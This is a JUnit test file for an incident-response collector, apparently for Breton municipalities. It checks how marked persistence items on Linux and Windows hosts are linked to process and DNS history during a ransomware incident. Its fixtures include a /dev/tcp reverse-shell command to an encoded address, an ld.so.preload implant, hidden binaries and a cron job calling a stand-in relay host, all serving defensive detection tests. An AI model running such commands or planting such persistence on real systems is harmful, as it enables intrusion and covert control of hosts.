package bzh.vigie.collector;

import static bzh.vigie.collector.store.Specimens.ANALYST;
import static bzh.vigie.collector.store.Specimens.AURAY;
import static bzh.vigie.collector.store.Specimens.CONCARNEAU;
import static bzh.vigie.collector.store.Specimens.agent;
import static bzh.vigie.collector.store.Specimens.minute;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import bzh.vigie.collector.detect.Marking;
import bzh.vigie.collector.detect.Marking.Mark;
import bzh.vigie.collector.detect.Marking.Outcome;
import bzh.vigie.collector.detect.Marking.Proposed;
import bzh.vigie.collector.detect.Marking.Sought;
import bzh.vigie.collector.detect.ShippedRules;
import bzh.vigie.collector.incident.HistorySearch;
import bzh.vigie.collector.ingest.IngestLog;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Commune;
import bzh.vigie.collector.store.EventHistory;
import bzh.vigie.collector.store.Incidents.Incident;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.PastEvents;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Store;
import bzh.vigie.collector.store.lucene.LuceneHistory;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import bzh.vigie.event.Item.Signature;
import bzh.vigie.event.ItemTimes;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the event history tells of something that is marked: its processes, what was written with it, and what hosts did before. */
final class MarkedHistoryTest {
    private static final Scope ALL = new Scope.All();
    private static final long PLANTED = 600;
    private static final long MARKED = 2_000;
    private static final Commune QUIMPER = new Commune("29232");

    @TempDir
    Path dir;

    private Instant now = minute(MARKED);
    private Store store;
    private EventHistory history;
    private PastEvents events;
    private Incident incident;

    @BeforeEach
    void open() {
        store = SqliteStore.open(dir.resolve("state"), () -> now);
        history = LuceneHistory.open(dir.resolve("history"));
        events = new PastEvents(history);
        for (int host = 0; host < 3; host++) {
            int number = host;
            store.change(s -> s.hosts().enrol(Specimens.host(number, commune(number))));
        }
        incident = store.write(s -> s.incidents().open("rançongiciel", Set.of(AURAY, CONCARNEAU), 30, ANALYST));
    }

    @AfterEach
    void close() {
        history.close();
        store.close();
    }

    private static Item item(String os, String location, String name, String value, String source, String target) {
        return new Item(
                location,
                List.of("T1053"),
                os,
                Optional.empty(),
                name,
                value,
                source,
                target,
                Optional.empty(),
                "",
                Signature.NOT_CHECKED,
                "",
                Shipped.UNOWNED,
                true,
                ItemTimes.modified(minute(PLANTED).toEpochMilli() * 1_000),
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of());
    }

    private void put(Item... items) {
        store.change(s ->
                Stream.of(items).forEach(each -> s.inventories().put(agent(0), AURAY, each, 1, minute(PLANTED + 5))));
        // Something was there before, so that not everything was told at once.
        store.change(s -> s.inventories()
                .put(agent(0), AURAY, Specimens.item("linux.cron.d", Optional.empty(), "apt", "apt", 1), 1, minute(0)));
    }

    private void started(int host, long minute, int pid, int parent, String image, String command) {
        events.add(host, commune(host), minute, PastEvents.started(minute, pid, parent, image, command));
    }

    private void answered(int host, long minute, String name, String address) {
        events.add(host, commune(host), minute, PastEvents.answered(minute, name, address));
    }

    private static Commune commune(int host) {
        return host < 2 ? AURAY : CONCARNEAU;
    }

    private Marking marking() {
        return new Marking(store, ALL, incident, ShippedRules.detectors(), () -> now);
    }

    private List<Mark> marks(Item item) {
        Sought sought = marking().ofItems(agent(0), List.of(item.key()), Optional.empty(), List.of());
        return assertInstanceOf(Sought.Items.class, sought).marks();
    }

    /** A drill by others: script, unit and link of one generator were refused as three things. */
    @Test
    void whatIsCalledSoInAllItsPartsIsMarkedByThatName() {
        String script = "/usr/lib/systemd/system-generators/makecon";
        String unit = "/run/systemd/generator/makecon.service";
        Item other = item(
                "linux",
                "linux.cron.d",
                "/opt/b/makecon",
                "@daily root /opt/b/makecon",
                "/etc/cron.d/b",
                "/opt/b/makecon");
        put(
                item("linux", "linux.systemd.generator", "makecon", "", script, script),
                item(
                        "linux",
                        "linux.systemd.service",
                        "makecon.service:ExecStart",
                        "/usr/sbin/fixcon",
                        unit,
                        "/usr/sbin/fixcon"),
                item(
                        "linux",
                        "linux.systemd.service",
                        "multi-user.target.wants/makecon.service",
                        unit,
                        "/run/systemd/generator/multi-user.target.wants/makecon.service",
                        unit));
        assertEquals(
                3,
                assertInstanceOf(Sought.Items.class, called("makecon")).marks().size());
        put(other);
        assertInstanceOf(Sought.Several.class, called("makecon"));
    }

    private Sought called(String name) {
        return marking().ofItems(agent(0), List.of(), Optional.empty(), List.of(name));
    }

    /** The same: a process whose program is the system's was shown as that program, as if bash were the attacker's. */
    @Test
    void aProcessThatDoesAsItIsToldIsShownByWhatItWasTold() {
        String told = "bash -c 'exec 5<>/dev/tcp/0x2d894166/443'";
        assertEquals(told, Marking.shown(Map.of("Image", "/usr/bin/bash", "CommandLine", told)));
        assertEquals(
                "python3 /opt/.z/a.py",
                Marking.shown(Map.of("Image", "/usr/bin/python3.13", "CommandLine", "python3 /opt/.z/a.py")));
        assertEquals("/opt/.z/kswapd", Marking.shown(Map.of("Image", "/opt/.z/kswapd", "CommandLine", "kswapd0")));
    }

    private List<String> related(Item item) {
        return marking().related(marks(item), history).stream()
                .map(each -> each.tie() + " "
                        + each.mark()
                                .fields()
                                .getOrDefault(
                                        "CommandLine", each.mark().fields().getOrDefault("source", "")))
                .toList();
    }

    @Test
    void theProcessOfAScriptAndWhatTheSameParentWroteAreProposed() {
        Item job = item(
                "linux",
                "linux.cron.d",
                "/opt/nettoie/run.sh",
                "5 3 * * * root /opt/nettoie/run.sh",
                "/etc/cron.d/nettoie",
                "/opt/nettoie/run.sh");
        Item library = item(
                "linux",
                "linux.ld-preload",
                "/usr/local/lib/libz9.so",
                "/usr/local/lib/libz9.so",
                "/etc/ld.so.preload",
                "/usr/local/lib/libz9.so");
        Item ours = item(
                "linux", "linux.cron.d", "/opt/ged/nuit.sh", "0 1 * * * root /opt/ged/nuit.sh", "/etc/cron.d/ged", "");
        put(job, library, ours);
        started(0, PLANTED, 501, 500, "/usr/bin/cp", "cp /tmp/z.so /usr/local/lib/libz9.so");
        started(0, PLANTED, 502, 500, "/usr/bin/install", "install -m 644 /tmp/j /etc/cron.d/nettoie");
        started(0, PLANTED, 601, 600, "/usr/bin/tee", "tee /etc/cron.d/ged");
        // The same parent, another day.
        started(0, PLANTED + 1_000, 503, 500, "/usr/bin/vi", "vi /etc/cron.d/ged");
        // What says nothing beyond its item is not proposed.
        started(0, PLANTED + 60, 701, 700, "/usr/bin/dash", "/bin/sh /opt/nettoie/run.sh");
        started(0, PLANTED + 120, 702, 700, "/usr/bin/dash", "/bin/sh /opt/nettoie/run.sh 203.0.113.9");
        started(0, PLANTED + 180, 705, 700, "/usr/bin/dash", "/bin/sh /opt/nettoie/run.sh 203.0.113.9");
        // Who reads it does not run it, and another host's process is not of this one.
        started(0, PLANTED + 130, 703, 700, "/usr/bin/less", "less /opt/nettoie/run.sh");
        started(1, PLANTED + 130, 704, 700, "/usr/bin/bash", "bash /opt/nettoie/run.sh -v");
        assertEquals(
                List.of(
                        "SAME_PARENT /etc/ld.so.preload",
                        "SAME_MINUTE /etc/cron.d/ged",
                        "PROCESS /bin/sh /opt/nettoie/run.sh 203.0.113.9"),
                related(job));
        List<Mark> all = Stream.concat(
                        marks(job).stream(),
                        marking().related(marks(job), history).stream()
                                .filter(each -> each.tie().isProposed())
                                .map(Proposed::mark))
                .toList();
        Outcome.Marked marked =
                assertInstanceOf(Outcome.Marked.class, marking().mark(all, Optional.empty(), ANALYST, Marking.MANY));
        assertEquals(3, marked.tombstones().size());
        assertEquals(List.of("SAME_MINUTE /etc/cron.d/ged"), related(job), "what is marked is not proposed again");
    }

    @Test
    void theProgramOfATaskAndTheFilesThatSysmonSawWithItAreProposed() {
        String program = "C:\\ProgramData\\Intel\\igfxsvc.exe";
        Item task = item(
                "windows",
                "windows.task",
                "\\Intel\\Gfx",
                program,
                "C:\\Windows\\System32\\Tasks\\Intel\\Gfx",
                program);
        Item link = item(
                "windows",
                "windows.startup",
                "gfx.lnk",
                "C:\\Users\\Public\\gfx.bat",
                "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\gfx.lnk",
                "C:\\Users\\Public\\gfx.bat");
        put(task, link);
        String maker = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";
        events.add(0, AURAY, PLANTED, PastEvents.created(PLANTED, maker, program));
        events.add(0, AURAY, PLANTED, PastEvents.created(PLANTED, maker, link.source()));
        started(0, PLANTED + 10, 88, 4, "c:\\programdata\\intel\\IGFXSVC.EXE", "igfxsvc -k");
        assertEquals(List.of("SAME_PARENT " + link.source(), "PROCESS igfxsvc -k"), related(task));
    }

    private List<String> lookedBack() {
        try (MarkLookBack back = new MarkLookBack(store, history, ShippedRules::detectors)) {
            back.look();
        }
        return store.read(s -> s.alerts().list(ALL, Optional.empty(), 100)).stream()
                .sorted(Comparator.comparing(Alert::time).thenComparing(Alert::hostname))
                .map(each -> each.rule() + " " + each.hostname() + " x" + each.count())
                .toList();
    }

    private HistorySearch search() {
        return store.read(s -> HistorySearch.of(s, incident));
    }

    private void judged(long position) {
        store.change(s -> s.progress().position(IngestLog.NAME, position));
    }

    @Test
    void whatHostsDidBeforeAMarkIsToldOnce() {
        String relay = "relais.voirie-bzh.example";
        Item job = item(
                "linux",
                "linux.cron.d",
                "/opt/.cache/kvorn",
                "* * * * * root /opt/.cache/kvorn --to " + relay,
                "/etc/cron.d/kvorn",
                "/opt/.cache/kvorn");
        put(job);
        store.change(s -> s.incidents()
                .eviction(
                        ALL,
                        incident.id(),
                        Optional.empty(),
                        Optional.of(new Interval(minute(1_000), Optional.of(minute(1_200)))),
                        ANALYST));
        started(0, 700, 10, 1, "/opt/.cache/kvorn", "/opt/.cache/kvorn --to " + relay);
        answered(1, 800, relay, "192.0.2.9");
        answered(1, 801, "www.service-public.fr", "192.0.2.10");
        answered(1, 900, relay, "192.0.2.9");
        started(2, 1_300, 11, 1, "/opt/.cache/kvorn", "/opt/.cache/kvorn");
        answered(2, MARKED + 5, relay, "192.0.2.9");
        assertEquals(List.of(), lookedBack(), "nothing is marked");
        assertInstanceOf(Outcome.Marked.class, marking().mark(marks(job), Optional.empty(), ANALYST, Marking.MANY));
        // Something that was judged before the mark is not in the history yet.
        judged(100);
        assertEquals(List.of(), lookedBack());
        assertEquals(1, search().marks());
        judged(6);
        List<String> told = List.of("vigie-same-attack pc-1 x2", "vigie-suspected-return pc-2 x1");
        assertEquals(told, lookedBack());
        assertEquals(told, lookedBack(), "nothing twice");
        assertEquals(new HistorySearch(0, 0, Optional.empty()), search());
        assertEquals(
                1,
                store.read(s -> s.tombstones().recurrences(ALL, incident.id())).stream()
                        .filter(each -> each.sameAttack())
                        .count());
    }

    /** After a crash, or where the incident is found to concern another commune, the rest is looked through and nothing is told twice. */
    @Test
    void whatWasNotFinishedIsBegunAnew() {
        String relay = "relais.voirie-bzh.example";
        Item job = item(
                "linux",
                "linux.cron.d",
                "kvorn",
                "* * * * * root /opt/kvorn --to " + relay,
                "/etc/cron.d/kvorn",
                "/opt/kvorn");
        put(job);
        answered(1, 800, relay, "192.0.2.9");
        marking().mark(marks(job), Optional.empty(), ANALYST, Marking.MANY);
        assertEquals(List.of("vigie-same-attack pc-1 x1"), lookedBack());
        events.add(2, QUIMPER, 800, PastEvents.answered(800, relay, "192.0.2.9"));
        assertEquals(List.of("vigie-same-attack pc-1 x1"), lookedBack());
        store.change(s -> s.incidents().extend(ALL, incident.id(), QUIMPER, ANALYST));
        assertEquals(List.of("vigie-same-attack pc-1 x1", "vigie-same-attack pc-2 x1"), lookedBack());
    }
}
